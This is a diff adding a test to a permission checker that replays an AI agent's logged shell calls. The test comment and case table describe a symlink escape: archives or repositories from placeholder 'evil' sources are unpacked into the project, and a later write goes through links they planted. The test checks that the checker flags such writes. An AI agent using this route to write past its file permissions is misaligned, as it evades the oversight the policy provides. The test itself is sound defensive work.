@@ -347,6 +347,25 @@ describe('check replays recorded tool calls from log files', () => {
     expect(byLine.get(7)).toBeUndefined();
   });
 
+  // Audit 49, BP-2: what an entry unpacked or copied in from outside may hold links, which a later
+  // entry's write below it went through unseen (in one entry the write asked).
+  test.each([
+    ['tar -xf /tmp/a.tar -C src', 'echo x > src/l/k'],
+    ['cd src && tar -xf /tmp/a.tar', 'echo x > src/l/k'],
+    ['unzip /tmp/a.zip -d src', 'echo x > src/l/k'],
+    ['git clone https://example.com/evil.git src/v', 'echo x > src/v/l/k'],
+    ['cp -r /tmp/evil src/e', 'echo x > src/e/l/k'],
+    ['rsync -a /tmp/evil/ src/', 'echo x > src/l/k'],
+  ])('after %j, a later entry\'s write below it asks', (unpack, write) => {
+    const repo = setup(POLICY.replace('models:', '  - {capability: shell, effect: allow, match: ["tar *", "unzip *", "cd *", "git *", "cp *", "rsync *", "echo *"]}\n  - {capability: fs_write, effect: allow, match: ["**"]}\nmodels:'));
+    repo.write(LOG, log([draft('shell', unpack), draft('shell', write), draft('shell', 'echo x > docs/k')]));
+    repo.commit('work', { author: KIRO });
+    const { report } = check(repo);
+    const byLine = new Map(report.findings.filter((f) => f.source.kind === 'log').map((f) => [f.source.line, f]));
+    expect(byLine.get(2)).toMatchObject({ effect: 'ask', reason: expect.stringContaining('holds what an earlier entry unpacked or copied in') });
+    expect(byLine.get(3)).toBeUndefined();
+  });
+
   // Audit 49, BP-4: a link made by an entry of a later commit was not followed for an earlier
   // commit's entries, though the agent picks which session's log goes into which commit.
   test('a link an entry of a later commit made is followed for the entries of earlier commits', () => {
